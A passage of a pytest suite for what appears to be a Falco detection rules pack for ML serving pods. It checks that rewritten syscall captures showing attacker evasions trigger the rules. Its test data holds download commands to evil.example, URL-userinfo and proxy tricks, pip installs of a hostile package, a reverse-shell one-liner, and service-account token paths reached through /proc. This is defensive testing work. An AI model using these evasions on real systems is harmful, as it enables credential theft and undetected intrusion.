"""Evasions and false positives found by the audit, each tested on a recorded action rewritten the way
the attacker (or the cluster) changes it: a shell under another name, the loader running a dropped
tool, the token read through ..data or /proc/1/root, versioned pip names and pip flags, user info in
a loopback URL, clustered interpreter flags, DNS to a node-local cache and the metadata address.
The real libsinsp (sysdig 0.29.3) reads each derived capture and evaluates the pack's expanded
conditions, with the captures' scope override.

sysdig 0.29.3 builds proc.exepath from the path given to execve; Falco 0.40 resolves it (symlinks
followed). Where that matters, the rewritten execve gives the path Falco would report.
"""

from __future__ import annotations

import re
import struct
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path, PurePosixPath
from typing import Any

import pytest

from responder.rulespack.condition import Value, checks
from responder.rulespack.evttypes import event_types
from responder.rulespack.expand import load_paths
from responder.rulespack.sysdig import Sysdig
from responder.rulespack.sysdig_compat import to_sysdig

from . import scapedit as se
from .conftest import CAPTURES, PACK, README, SCOPE_OVERRIDE

pytestmark = pytest.mark.timeout(120)

SHELL = "Shell in serving pod"
REVERSE_SHELL = "Reverse shell or interpreter one-liner in serving pod"
EGRESS = "Anomalous egress from serving pod"
DOWNLOAD = "Runtime download or package install in serving pod"
DRIFT = "Drift: new executable in serving pod"
CREDENTIALS = "Credential access in serving pod"
FIELDS = ["evt.num", "evt.type", "proc.name", "proc.exe", "proc.exepath", "proc.args", "fd.name", "fd.sip"]
EXECVE = "evt.type = execve and evt.dir = <"

Replacements = Mapping[int, list[bytes] | se.Retyped]


def _events(capture: str) -> list[se.Event]:
    return se.read_events(CAPTURES / capture)


@dataclass(frozen=True)
class Recorded:
    """A program start in a capture: the first with ``marker`` among its arguments (and that name)."""

    capture: str
    marker: str
    name: str | None = None

    def exec_events(self) -> tuple[se.Event, se.Event]:
        events = _events(self.capture)
        exit_ = next(
            e
            for e in events
            if e.type == se.EXECVE_EXIT
            and self.marker in e.text(se.EXECVE_ARGS).split(" ")
            and self.name in (None, e.text(se.EXECVE_COMM))
        )
        return se.find_exec(events, exit_.text(se.EXECVE_ARGS), name=exit_.text(se.EXECVE_COMM))

    @property
    def thread(self) -> str:
        """A filter for the events of its thread."""
        return f"thread.tid = {self.exec_events()[1].tid}"

    def exec(
        self,
        *,
        path: str | None = None,
        argv: list[str] | None = None,
        name: str | None = None,
        cwd: str | None = None,
    ) -> Replacements:
        """Started otherwise: the path given to execve (what sysdig 0.29 reports as proc.exepath),
        argv (argv[0] is proc.exe), the process name and the working directory."""
        enter, exit_ = self.exec_events()
        replacements: dict[int, list[bytes] | se.Retyped] = {}
        if path is not None:
            replacements[enter.index] = se.replaced(enter, {se.EXECVE_FILENAME: se.strings(path)})
        changes: dict[int, bytes] = {}
        if argv is not None:
            changes[se.EXECVE_EXE] = se.strings(argv[0])
            changes[se.EXECVE_ARGS] = se.strings(*argv[1:])
        if name is not None:
            changes[se.EXECVE_COMM] = se.strings(name)
        if cwd is not None:
            # libsinsp keeps the working directory from the parent (the captures' clones record
            # none) and from chdir: the exit event the thread made just before its execve (a
            # signal-mask call) becomes a successful chdir.
            before = [
                e
                for e in _events(self.capture)[: enter.index]
                if e.tid == exit_.tid and e.type % 2 == 1 and e.type not in se.CLONE_EXITS
            ]
            chdir = se.Retyped(se.CHDIR_EXIT, [struct.pack("<q", 0), se.strings(cwd)])
            replacements[before[-1].index] = chdir
        replacements[exit_.index] = se.replaced(exit_, changes)
        return replacements


SH_A1 = Recorded("sg-a-shell.scap", "sgcap-a1")  # sh -c echo sgcap-a1
DROPPED_G2 = Recorded("sg-g-drift.scap", "sgcap-g2")  # /tmp/sgcap-g2-dropped sgcap-g2
CURL_F2 = Recorded("sg-f-tools.scap", "--version", "curl")  # curl --version
PYTHON_B1 = Recorded("sg-b-revshell.scap", "sgcap-b1")  # python3 -c 'import pty,socket...'
CAT_H1 = Recorded("sg-h-creds.scap", "/var/run/secrets/kubernetes.io/serviceaccount/token")
PYTHON_E1 = Recorded("sg-e-egress.scap", "sgcap-e1")  # TCP connect 100.64.10.2:443
PYTHON_E2 = Recorded("sg-e-egress.scap", "sgcap-e2")  # UDP sendto 100.64.10.2:53


class Derived:
    """A capture rewritten from a recorded one, read by sysdig."""

    def __init__(self, sysdig: Sysdig, conditions: dict[str, str], path: Path) -> None:
        self.sysdig = sysdig
        self.conditions = conditions
        self.path = path

    def events(self, condition: str) -> list[dict[str, Any]]:
        return self.sysdig.read_capture(str(self.path), condition, FIELDS)

    def fired(self, rule: str, condition: str) -> list[dict[str, Any]]:
        """The events, among those of ``condition``, on which ``rule`` fires."""
        return self.events(f"({condition}) and ({self.conditions[rule]})")

    def rules_fired(self, condition: str) -> set[str]:
        return {rule for rule in self.conditions if self.fired(rule, condition)}


Derive = Callable[[str, Replacements], Derived]


@pytest.fixture(scope="module")
def conditions() -> dict[str, str]:
    ruleset = load_paths([str(PACK), str(SCOPE_OVERRIDE)])
    return {name: to_sysdig(rule.ast).text for name, rule in ruleset.expanded.items()}


@pytest.fixture
def derive(sysdig: Sysdig, conditions: dict[str, str], tmp_path: Path) -> Derive:
    made = 0

    def make(capture: str, replacements: Replacements) -> Derived:
        nonlocal made
        made += 1
        path = tmp_path / f"{made}-{capture}"
        se.rewrite(CAPTURES / capture, path, replacements)
        return Derived(sysdig, conditions, path)

    return make


def test_rewriting_an_event_as_recorded_gives_the_recording_back(tmp_path: Path) -> None:
    # Every block is re-encoded exactly: a derived capture differs only where an event was changed.
    for capture in ("sg-a-shell.scap", "sg-e-egress.scap"):
        events = _events(capture)
        copy = tmp_path / capture
        se.rewrite(CAPTURES / capture, copy, {e.index: list(e.params) for e in events[:: len(events) // 50]})
        assert copy.read_bytes() == (CAPTURES / capture).read_bytes()


# -- 1. A shell under another name; the dynamic loader running a program ---------------------------


@pytest.mark.parametrize(
    ("path", "argv", "name"),
    [
        # ln -s /bin/sh /tmp/x; /tmp/x -c id: Falco resolves the link, the process is named x.
        ("/usr/bin/dash", ["/tmp/x", "-c", "id"], "x"),
        ("/usr/bin/bash", ["/dev/shm/.k", "-c", "id"], ".k"),
        # busybox under another name picks its applet from argv[0].
        ("/usr/bin/busybox", ["sh", "-c", "id"], "x"),
        ("/usr/bin/busybox", ["/bin/sh", "-c", "id"], "x"),
    ],
)
def test_a_shell_under_another_name_is_a_shell(derive: Derive, path: str, argv: list[str], name: str) -> None:
    derived = derive(SH_A1.capture, SH_A1.exec(path=path, argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert (event["proc.name"], event["proc.exepath"]) == (name, path)  # no shell's name
    assert [e["evt.num"] for e in derived.fired(SHELL, SH_A1.thread)] == [event["evt.num"]]


def test_busybox_applets_that_are_not_shells_stay_quiet(derive: Derive) -> None:
    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/busybox", argv=["ls", "-l"], name="x"))
    assert derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert derived.fired(SHELL, SH_A1.thread) == []


def test_capture_fidelity_the_unresolved_link_is_drift(derive: Derive) -> None:
    """What sysdig 0.29.3 itself reports for the linked shell is the link's path, which the drift rule
    catches (/tmp); Falco 0.40 reports the shell's path and the shell rule catches it (above)."""
    derived = derive(SH_A1.capture, SH_A1.exec(path="/tmp/x", argv=["/tmp/x", "-c", "id"], name="x"))
    assert derived.rules_fired(SH_A1.thread) == {DRIFT}


LD_LINUX = "/lib64/ld-linux-x86-64.so.2"


@pytest.mark.parametrize(
    ("path", "name"),
    [
        (LD_LINUX, "ld-linux-x86-64"),  # as given (what sysdig 0.29 reports)
        ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "ld-linux-x86-64"),  # resolved (Falco)
        ("/lib/x86_64-linux-gnu/ld-2.31.so", "ld-linux-x86-64"),  # glibc before 2.34, resolved
        ("/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64."),  # musl (the name is cut at 15 characters)
        ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "x"),  # a link to the loader, resolved
        ("/usr/bin/ld.so", "ld.so"),  # Debian's ld.so link, as given
    ],
)
def test_the_dynamic_loader_running_a_program_is_drift(derive: Derive, path: str, name: str) -> None:
    # `ld-linux-x86-64.so.2 /tmp/sgcap-g2-dropped`: the executable is the loader (in the image, not
    # in /tmp); the dropped file is only its argument.
    argv = [LD_LINUX, "/tmp/sgcap-g2-dropped", "sgcap-g2"]
    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {DROPPED_G2.thread}")
    assert (event["proc.exepath"], event["proc.name"]) == (path, name)
    assert [e["evt.num"] for e in derived.fired(DRIFT, DROPPED_G2.thread)] == [event["evt.num"]]


# (Not ldd: glibc's ldd is a bash script, which runs the loader itself: rules 3 and 7 both fire.)
@pytest.mark.parametrize(("path", "name"), [("/usr/bin/ld", "ld"), ("/usr/bin/ld.bfd", "ld.bfd")])
def test_the_linker_is_not_the_loader(derive: Derive, path: str, name: str) -> None:
    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=[path, "--version"], name=name))
    assert derived.events(f"{EXECVE} and {DROPPED_G2.thread}")
    assert derived.fired(DRIFT, DROPPED_G2.thread) == []


# -- 2. The service-account token under its real paths ---------------------------------------------

SA = "/var/run/secrets/kubernetes.io/serviceaccount"


def _open(path: str) -> Replacements:
    """cat opens ``path`` instead of the token."""
    _, cat = CAT_H1.exec_events()
    opens = [
        e
        for e in se.find_events(_events(CAT_H1.capture), (se.OPENAT_ENTER, se.OPENAT_EXIT), cat.tid)
        if "serviceaccount/token"
        in e.text(se.OPENAT_ENTER_NAME if e.type == se.OPENAT_ENTER else se.OPENAT_EXIT_NAME)
    ]
    enter, exit_ = opens
    return {
        enter.index: se.replaced(enter, {se.OPENAT_ENTER_NAME: se.strings(path)}),
        exit_.index: se.replaced(exit_, {se.OPENAT_EXIT_NAME: se.strings(path)}),
    }


@pytest.mark.parametrize(
    "path",
    [
        f"{SA}/..data/token",
        f"{SA}/..2026_12_01_10_00_00.123456789/token",
        "/run/secrets/kubernetes.io/serviceaccount/..data/token",
        f"/proc/1/root{SA}/token",
        f"/proc/self/root{SA}/..data/token",
        "/proc/1/cwd/run/secrets/kubernetes.io/serviceaccount/token",
        "/proc/self/cwd/token",  # after changing into the token directory
        "/proc/self/fd/3/token",  # through a descriptor of the directory
        "/var/run/secrets/eks.amazonaws.com/serviceaccount/..data/token",
        "/run/secrets/azure/tokens/azure-identity-token",
        "/var/run/secrets/tokens/vault-token",
    ],
)
def test_the_token_is_found_under_every_path_that_opens_it(derive: Derive, path: str) -> None:
    derived = derive(CAT_H1.capture, _open(path))
    assert [e["fd.name"] for e in derived.fired(CREDENTIALS, CAT_H1.thread)] == [path]


@pytest.mark.parametrize(
    "path",
    [
        f"{SA}/ca.crt",
        f"{SA}/..data/ca.crt",
        f"{SA}/namespace",
        f"/proc/1/root{SA}/ca.crt",
        "/var/run/secrets/kubernetes.io/serviceaccount-reader/token",  # another directory
    ],
)
def test_the_public_files_beside_the_token_stay_quiet(derive: Derive, path: str) -> None:
    derived = derive(CAT_H1.capture, _open(path))
    assert [e["fd.name"] for e in derived.events(f"evt.type = openat and evt.dir = < and {CAT_H1.thread}")][
        -1
    ] == path
    assert derived.fired(CREDENTIALS, CAT_H1.thread) == []


# -- 3. Downloads and one-liners ---------------------------------------------------------------------

# The executable Falco reports for a program started by name: scripts (pip) resolve to their
# interpreter. (sysdig 0.29 reports the path given to execve: each variant passes Falco's.)
SCRIPT_INTERPRETERS = {"pip3.11": "/usr/bin/python3.11", "pip-3.11": "/usr/bin/python3.11"}


def _exepath(argv0: str) -> str:
    if argv0.startswith("/"):
        return argv0
    return SCRIPT_INTERPRETERS.get(argv0, f"/usr/bin/{argv0}")


@pytest.mark.parametrize(
    "argv",
    [
        ["busybox", "wget", "http://evil.example/x"],
        ["busybox", "tftp", "-g", "-r", "x", "evil.example"],
        ["pip3.11", "install", "x"],
        ["pip-3.11", "install", "x"],
        ["python3", "-mpip", "install", "x"],
        ["python3", "-I", "-m", "pip", "install", "x"],
        ["python3.11", "-Im", "pip", "install", "x"],
        ["python3", "-X", "utf8", "-m", "pip", "install", "x"],
        ["curl", "-sO", "http://127.0.0.1:80@evil.example/x"],
        ["curl", "http://localhost:8080@evil.example/x"],
        ["wget", "http://[::1]:80@evil.example/x"],
        # A loopback URL beside one that goes elsewhere, or through a proxy or resolve option.
        ["curl", "http://evil.example/x?u=://localhost/"],
        ["curl", "http://127.0.0.1:8080/health", "http://evil.example/x"],
        ["curl", "-x", "http://evil.example:3128", "http://127.0.0.1/x"],
        ["curl", "--resolve", "localhost:80:203.0.113.9", "http://localhost/x"],
        ["python3", "-m", "pip.__main__", "install", "x"],
        ["python3", "-m", "pip"],
        # Review 70: a second URL without a scheme, options that read URLs or settings from a file,
        # a proxy in a cluster of short options, redirects, and pip run by the interpreter.
        ["curl", "-s", "http://127.0.0.1:8088/", "evil.example/tool", "-o", "/tmp/tool"],
        ["curl", "-s", "http://127.0.0.1:8088/", "-o", "/tmp/tool"],
        ["curl", "-K", "/tmp/cfg", "http://127.0.0.1:8088/"],
        ["curl", "-sK/tmp/cfg", "http://127.0.0.1:8088/"],
        ["curl", "-sxevil.example:3128", "http://127.0.0.1/x"],
        ["curl", "-sL", "http://127.0.0.1:9000/redirect"],
        ["curl", "--location", "http://127.0.0.1:9000/redirect"],
        ["curl", "-:", "http://127.0.0.1/x"],
        ["wget", "-i", "/tmp/urls", "http://127.0.0.1:8088/"],
        ["wget", "-qi/tmp/urls", "http://127.0.0.1:8088/"],
        ["wget", "--input-file=/tmp/urls", "http://127.0.0.1:8088/"],
        ["wget", "-erobots=off", "http://127.0.0.1:8088/"],
        ["busybox", "wget", "http://127.0.0.1/", "evil.example/x"],
        ["busybox", "wget", "-Y", "on", "http://127.0.0.1/"],
        ["python3", "/usr/local/bin/pip", "install", "evil"],
        ["python3.11", "-I", "/usr/bin/pip3", "install", "evil"],
        ["python3", "/usr/bin/pip3.11", "download", "evil"],
        ["python3", "/usr/bin/pip-3.11"],
    ],
    ids=" ".join,
)
def test_download_evasions_are_downloads(derive: Derive, argv: list[str]) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(path=_exepath(argv[0]), argv=argv, name=argv[0]))
    [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
    assert (event["proc.name"], event["proc.args"]) == (argv[0], " ".join(argv[1:]))


@pytest.mark.parametrize(
    "argv",
    [
        ["curl", "-s", "http://127.0.0.1:8088/predict?x"],
        ["wget", "-q", "-O-", "http://localhost:8080/health"],
        ["busybox", "wget", "-q", "-O-", "http://127.0.0.1:8080/health"],
        ["curl", "-sf", "http://[::1]:8000/v2/health/ready"],
        ["python3", "-u", "-m", "http.server", "8000"],
        ["python3", "-m", "pipelines.serve"],
        ["python3", "-u", "-m", "pipeline_server", "--port", "8000"],
        ["busybox", "sha256sum", "/models/model.pt"],
        ["pipewire"],
        # Flags with their values attached, and programs that mention pip without running it.
        ["curl", "-sf", "-o/dev/null", "http://127.0.0.1:8080/health"],
        ["curl", "-i", "http://localhost:8080/"],
        ["curl", "--silent", "--fail", "http://[::1]:8000/v2/health/ready"],
        ["wget", "-qO-", "http://127.0.0.1:8080/health"],
        ["busybox", "wget", "-qO-", "http://localhost:8080/health"],
        ["python3", "/srv/app.py", "--pip-cache", "/root/.cache"],
        ["python3", "/app/pipeline/serve.py", "--port", "8000"],
    ],
    ids=" ".join,
)
def test_local_requests_and_other_programs_are_not_downloads(derive: Derive, argv: list[str]) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(path=_exepath(argv[0]), argv=argv, name=argv[0]))
    [event] = derived.events(f"{EXECVE} and {CURL_F2.thread}")
    assert (event["proc.name"], event["proc.args"]) == (argv[0], " ".join(argv[1:]))
    assert derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}") == []


@pytest.mark.parametrize("flags", [["-Ic"], ["-I", "-c"], ["-Esc"], ["-u", "-c"]], ids=" ".join)
def test_clustered_interpreter_flags_are_a_one_liner(derive: Derive, flags: list[str]) -> None:
    _, python = PYTHON_B1.exec_events()
    code = python.params[se.EXECVE_ARGS].split(b"\0")[1].decode()
    derived = derive(PYTHON_B1.capture, PYTHON_B1.exec(argv=["python3", *flags, code]))
    # The execve itself, not only the socket duplicated onto stdio afterwards.
    [event] = derived.fired(REVERSE_SHELL, f"{EXECVE} and {PYTHON_B1.thread}")
    assert event["proc.args"] == " ".join([*flags, code])


# -- 4. Egress: node-local DNS, the metadata address, 0.0.0.0 ---------------------------------------


def _udp_to(address: str, port: int) -> Replacements:
    """The recorded UDP datagram (e2) sent to another address."""
    _, python = PYTHON_E2.exec_events()
    [sendto] = se.find_events(_events(PYTHON_E2.capture), (se.SENDTO_ENTER,), python.tid)
    destination = se.ipv4_tuple(("0.0.0.0", 0), (address, port))
    return {sendto.index: se.replaced(sendto, {se.SENDTO_ENTER_TUPLE: destination})}


def _tcp_to(address: str, port: int) -> Replacements:
    """The recorded TCP connect (e1) to another address."""
    _, python = PYTHON_E1.exec_events()
    enter, exit_ = [
        e
        for e in se.find_events(_events(PYTHON_E1.capture), (se.CONNECT_ENTER, se.CONNECT_EXIT), python.tid)
        if e.params[1][:1] == b"\x02"  # AF_INET (not the libc's unix-socket lookups)
    ]
    local = exit_.params[se.CONNECT_EXIT_TUPLE][1:7]  # the recorded local address and port
    return {
        enter.index: se.replaced(enter, {se.CONNECT_ENTER_ADDR: se.ipv4_sockaddr(address, port)}),
        exit_.index: se.replaced(
            exit_, {se.CONNECT_EXIT_TUPLE: b"\x02" + local + se.ipv4_sockaddr(address, port)[1:]}
        ),
    }


@pytest.mark.parametrize(
    ("proto", "address", "port", "alerts"),
    [
        ("udp", "169.254.20.10", 53, False),  # NodeLocal DNSCache
        ("udp", "169.254.25.10", 53, False),  # NodeLocal DNSCache (kubespray's address)
        ("tcp", "169.254.20.10", 53, False),  # DNS over TCP to it
        ("udp", "169.254.169.253", 53, False),  # the AWS VPC resolver
        ("udp", "169.254.169.254", 53, True),  # the metadata address is never DNS
        ("tcp", "169.254.169.254", 80, True),  # cloud metadata
        ("udp", "169.254.20.10", 5353, True),  # link-local, not DNS
        ("tcp", "169.254.20.10", 443, True),
        ("tcp", "0.0.0.0", 8080, False),  # this host
        ("udp", "0.0.0.0", 53, False),
        ("udp", "100.64.10.2", 53, True),  # as recorded (e2)
    ],
)
def test_egress_allows_link_local_only_for_dns(
    derive: Derive, proto: str, address: str, port: int, alerts: bool
) -> None:
    recorded, replacements = (PYTHON_E2, _udp_to) if proto == "udp" else (PYTHON_E1, _tcp_to)
    derived = derive(recorded.capture, replacements(address, port))
    sent = derived.events(f"evt.type in (sendto, connect) and evt.dir = < and {recorded.thread}")
    assert {e["fd.sip"] for e in sent if e["fd.sip"] is not None} == {address}
    fired = derived.fired(EGRESS, recorded.thread)
    assert bool(fired) is alerts, fired


def test_unconnected_udp_includes_sendmmsg() -> None:
    # No capture holds a sendmmsg (and sysdig 0.29's sendmmsg events carry no address): the rule is
    # checked to select the event type; `rules check` compiles it.
    ruleset = load_paths([str(PACK)])
    assert {"connect", "sendto", "sendmsg", "sendmmsg"} <= event_types(ruleset.expanded[EGRESS].ast).names


# -- System tools that are shell scripts ----------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "name", "fires"),
    [
        # Ubuntu's ldconfig wraps ldconfig.real; Python's ctypes.util.find_library runs `ldconfig -p`.
        ("/sbin/ldconfig", "ldconfig", False),
        ("/usr/sbin/ldconfig", "ldconfig", False),
        ("/usr/bin/which", "which", False),
        # The same names elsewhere (written at run time) are shells like any script.
        ("/tmp/ldconfig", "ldconfig", True),
        ("/dev/shm/which", "which", True),
        ("/tmp/a.sh", "a.sh", True),
    ],
)
def test_a_shell_script_is_a_shell_unless_it_is_a_system_tool_of_the_image(
    derive: Derive, script: str, name: str, fires: bool
) -> None:
    """Run as a script, the kernel starts the interpreter with the script's path as its first
    argument and names the process after the script; Falco resolves the executable to the shell."""
    argv = ["/bin/sh", script, "-p"]
    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/dash", argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert (event["proc.name"], event["proc.args"]) == (name, f"{script} -p")
    assert bool(derived.fired(SHELL, SH_A1.thread)) is fires


# -- Review 70 -------------------------------------------------------------------------------------
# Each evasion below is the nearest recorded action with the event the attacker changes rewritten.

MODEL_LOAD = "Unexpected model file load in serving pod"
TAMPER = "Model artifact tampering in serving pod"

PYTHON_C1 = Recorded("sg-c-modelload.scap", "sgcap-c1")  # python3 reads /tmp/evil/model.pt
PYTHON_D1 = Recorded("sg-d-tamper.scap", "sgcap-d1")  # python3 appends to /models/resnet/model.pt
SH_D2 = Recorded("sg-d-tamper.scap", "sgcap-d2")  # sh -c 'mv ...', the parent of mv
MV_D2 = Recorded("sg-d-tamper.scap", "/models/resnet/sgcap-d2-old.bin", "mv")
CHMOD_D3 = Recorded("sg-d-tamper.scap", "0666", "chmod")
LN_D4 = Recorded("sg-d-tamper.scap", "-s", "ln")  # ln -s /tmp/evil/model.pt /models/resnet/evil.pt


def _one(recorded: Recorded, event_type: int) -> se.Event:
    """The event of that type (the only one) of the recorded program's thread."""
    _, exit_ = recorded.exec_events()
    [event] = se.find_events(_events(recorded.capture), (event_type,), exit_.tid)
    return event


def _open_instead(recorded: Recorded, recorded_path: str, path: str) -> Replacements:
    """The recorded program opens ``path`` where it opened ``recorded_path`` (the openat pair)."""
    _, exit_ = recorded.exec_events()
    pair = [
        e
        for e in se.find_events(_events(recorded.capture), (se.OPENAT_ENTER, se.OPENAT_EXIT), exit_.tid)
        if e.text(se.OPENAT_ENTER_NAME if e.type == se.OPENAT_ENTER else se.OPENAT_EXIT_NAME) == recorded_path
    ]
    enter, exit_open = pair[:2]
    return {
        enter.index: se.replaced(enter, {se.OPENAT_ENTER_NAME: se.strings(path)}),
        exit_open.index: se.replaced(exit_open, {se.OPENAT_EXIT_NAME: se.strings(path)}),
    }


def _opened(derived: Derived, recorded: Recorded, rule: str, path: str) -> list[str]:
    """The files, among the recorded program's opens of ``path``, on which ``rule`` fires."""
    condition = f'evt.type = openat and evt.dir = < and {recorded.thread} and fd.name = "{path}"'
    assert derived.events(condition), f"{path} is not opened in the derived capture"
    return [e["fd.name"] for e in derived.fired(rule, condition)]


# 5. Finding 1: a link made outside the model dirs to a model or a model dir, and writes through
# /proc/<pid>/root or /proc/<pid>/cwd. Rule 2 used to see only links made inside a model dir.


def _symlink(target: str, link: str) -> Replacements:
    event = _one(LN_D4, se.SYMLINKAT_EXIT)
    return {
        event.index: se.replaced(
            event,
            {se.SYMLINKAT_EXIT_TARGET: se.strings(target), se.SYMLINKAT_EXIT_LINKPATH: se.strings(link)},
        )
    }


def _symlink_fires(derive: Derive, target: str, link: str) -> bool:
    """Whether the tampering rule fires on the recorded symlinkat, made to link ``link`` to ``target``."""
    derived = derive(LN_D4.capture, _symlink(target, link))
    made = f"evt.type = symlinkat and evt.dir = < and {LN_D4.thread}"
    assert derived.events(made)
    return bool(derived.fired(TAMPER, made))


def _rename_fires(derive: Derive, oldpath: str, newpath: str) -> bool:
    """Whether the tampering rule fires on the recorded renameat2, made to move ``oldpath`` to ``newpath``."""
    rename = _one(MV_D2, se.RENAMEAT2_EXIT)
    changes = {se.RENAMEAT2_EXIT_OLDPATH: se.strings(oldpath), se.RENAMEAT2_EXIT_NEWPATH: se.strings(newpath)}
    derived = derive(MV_D2.capture, {rename.index: se.replaced(rename, changes)})
    renamed = f"evt.type = renameat2 and evt.dir = < and {MV_D2.thread}"
    assert derived.events(renamed)
    return bool(derived.fired(TAMPER, renamed))


@pytest.mark.parametrize(
    ("target", "link", "fires"),
    [
        ("/models/resnet/model.pt", "/tmp/m", True),  # then `echo x >> /tmp/m` writes the model
        ("/models", "/tmp/md", True),  # then /tmp/md/resnet/model.pt is every model
        ("/mnt/models/model.safetensors", "/dev/shm/.m", True),
        ("/proc/self/root/models", "/tmp/md", True),  # a link to the model dir through /proc
        ("/tmp/evil/model.pt", "/models/resnet/evil.pt", True),  # as recorded (d4)
        ("/tmp/evil/model.pt", "/tmp/m", False),  # nothing of the model dirs
        ("/proc/self/fd", "/dev/fd", False),  # the links the runtime makes in /dev
        ("/proc/self/fd/1", "/dev/stdout", False),
    ],
)
def test_a_link_into_the_model_dirs_made_anywhere_is_tampering(
    derive: Derive, target: str, link: str, fires: bool
) -> None:
    derived = derive(LN_D4.capture, _symlink(target, link))
    made = f"evt.type = symlinkat and evt.dir = < and {LN_D4.thread}"
    assert [e["evt.num"] for e in derived.events(made)]
    assert bool(derived.fired(TAMPER, made)) is fires


@pytest.mark.parametrize(
    ("path", "fires"),
    [
        ("/proc/self/root/models/resnet/model.pt", True),
        ("/proc/1/root/models/resnet/model.pt", True),
        ("/proc/thread-self/root/mnt/models/model.safetensors", True),
        ("/proc/1/task/1/root/root/.cache/huggingface/hub/model.bin", True),
        ("/proc/1/root/models/resnet/config.pbtxt", True),  # any file of a model dir
        # Through a directory the path does not name (the working directory, a directory's fd): a file
        # with a model extension counts.
        ("/proc/1/cwd/models/resnet/model.pt", True),
        ("/proc/self/cwd/resnet/model.pt", True),  # after cd /models
        ("/proc/self/fd/3/model.safetensors", True),
        ("/models/resnet/model.pt", True),  # as recorded (d1)
        # Writes through /proc elsewhere: the JVM attach file jcmd creates, a profiler's agent.
        ("/proc/1/cwd/.attach_pid1", False),
        ("/proc/1/root/tmp/libasyncProfiler.so", False),
    ],
)
def test_a_write_through_proc_root_or_cwd_into_a_model_dir_is_tampering(
    derive: Derive, path: str, fires: bool
) -> None:
    derived = derive(PYTHON_D1.capture, _open_instead(PYTHON_D1, "/models/resnet/model.pt", path))
    assert bool(_opened(derived, PYTHON_D1, TAMPER, path)) is fires


def test_chmod_and_rename_through_proc_root_are_tampering(derive: Derive) -> None:
    chmod = _one(CHMOD_D3, se.FCHMODAT_EXIT)
    derived = derive(
        CHMOD_D3.capture,
        {
            chmod.index: se.replaced(
                chmod, {se.FCHMODAT_EXIT_FILENAME: se.strings("/proc/self/root/models/resnet/model.pt")}
            )
        },
    )
    assert [e["evt.type"] for e in derived.fired(TAMPER, CHMOD_D3.thread)] == ["fchmodat"]
    rename = _one(MV_D2, se.RENAMEAT2_EXIT)
    changes = {
        se.RENAMEAT2_EXIT_OLDPATH: se.strings("/tmp/evil.bin"),
        se.RENAMEAT2_EXIT_NEWPATH: se.strings("/proc/1/root/models/resnet/model.pt"),
    }
    derived = derive(MV_D2.capture, {rename.index: se.replaced(rename, changes)})
    assert [e["evt.type"] for e in derived.fired(TAMPER, MV_D2.thread)] == ["renameat2"]


def test_every_model_dir_is_spelled_out_for_proc_paths() -> None:
    """The mirror macro holds every default model dir (the checker holds overrides to it too)."""
    ruleset = load_paths([str(PACK)])
    mirror = ruleset.macros["serving_guard_model_dir_through_proc"]
    assert mirror.ast is not None
    tested = {c.value.text for c in checks(mirror.ast) if isinstance(c.value, Value)}
    assert tested == {f"*/proc/*/root{d}*" for d in ruleset.list_items["serving_guard_model_dirs"]}


# 6. Finding 2: TorchServe's worker loads the model the frontend unpacked into its temporary
# directory: quiet when it is that worker (python started by java), not for anyone else.

TORCHSERVE_MODEL = "/home/model-server/tmp/models/3f2a9c1e5b7d/resnet18.pt"


def _torchserve(*, parent: str, worker: str, path: str) -> Replacements:
    """`sh -c mv ...` becomes the frontend (``parent``), its child mv the worker (``worker``), and the
    worker reads ``path`` where mv read /usr/share/locale/locale.alias."""
    replacements = dict(
        SH_D2.exec(
            path=f"/usr/bin/{parent}", argv=[parent, "-Djava.io.tmpdir=/home/model-server/tmp"], name=parent
        )
    )
    worker_argv = [worker, "/home/venv/lib/python3.9/site-packages/ts/model_service_worker.py"]
    replacements.update(MV_D2.exec(path="/usr/bin/python3.9", argv=worker_argv, name=worker))
    replacements.update(_open_instead(MV_D2, "/usr/share/locale/locale.alias", path))
    return replacements


@pytest.mark.parametrize(
    ("parent", "worker", "path", "fires"),
    [
        ("java", "python", TORCHSERVE_MODEL, False),  # TorchServe loading its model
        ("java", "python3", "/home/model-server/tmp/models/0a1b/model.safetensors", False),
        ("sh", "python", TORCHSERVE_MODEL, True),  # a python started by a shell
        ("java", "cat", TORCHSERVE_MODEL, True),  # not the worker
        ("java", "python", "/home/model-server/tmp/evil.pt", True),  # beside the unpack dir
        ("java", "python", "/tmp/models/3f2a/resnet18.pt", True),
    ],
)
def test_torchserve_worker_loading_its_unpacked_model_is_quiet(
    derive: Derive, parent: str, worker: str, path: str, fires: bool
) -> None:
    derived = derive(MV_D2.capture, _torchserve(parent=parent, worker=worker, path=path))
    [event] = derived.events(f"{EXECVE} and {MV_D2.thread}")
    assert event["proc.name"] == worker
    assert bool(_opened(derived, MV_D2, MODEL_LOAD, path)) is fires


# 7. Finding 6: the *.pth exception only in the image's own site directories; extensions in any case;
# more extensions.


@pytest.mark.parametrize(
    ("path", "fires"),
    [
        ("/tmp/site-packages/evil.pth", True),
        ("/root/.local/lib/python3.11/site-packages/evil.pth", True),
        ("/tmp/evil/dist-packages/x.pth", True),
        ("/usr/lib/python3/dist-packages/distutils-precedence.pth", False),
        ("/usr/local/lib/python3.11/site-packages/_virtualenv.pth", False),
        ("/opt/conda/lib/python3.10/site-packages/matplotlib-3.8.0-py3.10-nspkg.pth", False),
        ("/home/venv/lib/python3.9/site-packages/distutils-precedence.pth", False),
        ("/usr/local/lib/python3.11/site-packages/torch/weights.pth", True),  # not a site directory
    ],
)
def test_python_path_files_are_quiet_only_in_the_images_site_directories(
    derive: Derive, path: str, fires: bool
) -> None:
